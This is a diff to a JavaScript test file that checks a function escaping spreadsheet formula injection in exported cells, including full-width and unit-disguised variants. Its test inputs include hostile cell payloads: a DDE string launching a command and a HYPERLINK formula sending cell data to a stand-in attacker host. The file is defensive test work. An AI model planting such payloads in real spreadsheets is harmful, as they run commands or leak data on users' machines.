@@ -19,10 +19,34 @@ test.each(["", "In bulk", "10 MT + 5 KG", "12/11/2025", "TV/EXP/042", "1,2,3", "
   },
 );
 
-test.each(["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "-", "+919876543210"])("%j is made harmless", (cell) => {
+test.each([
+  "=1+1",
+  "+1",
+  "-1+cmd|' /C calc'!A0",
+  "@SUM(A1)",
+  "\t=1",
+  "\r=1",
+  "\n=1",
+  "-",
+  "+919876543210",
+  // Arithmetic in the clothes of a figure with its unit.
+  "-1 *cmd|' /C calc'!A0",
+  '-1 -HYPERLINK("https://attacker.example?"&A1)',
+  "-1 &A1",
+  "-5 KG(A1)",
+  "-5 A1",
+  // Spreadsheets with Chinese or Japanese settings read the full width, too.
+  "＝1",
+  "＋1",
+  "－1",
+  "＠SUM(A1)",
+])("%j is made harmless", (cell) => {
   expect(harmless(cell)).toBe(`'${cell}`);
 });
 
-test.each(["", "82,500.00", "-12.50", "-5 KG", "a=b", "'=1", " =1"])("%j is harmless as it is", (cell) => {
-  expect(harmless(cell)).toBe(cell);
-});
+test.each(["", "82,500.00", "-12.50", "-5 KG", "-5 Metric tons", "-12,500.00 बैग", "a=b", "'=1", " =1"])(
+  "%j is harmless as it is",
+  (cell) => {
+    expect(harmless(cell)).toBe(cell);
+  },
+);
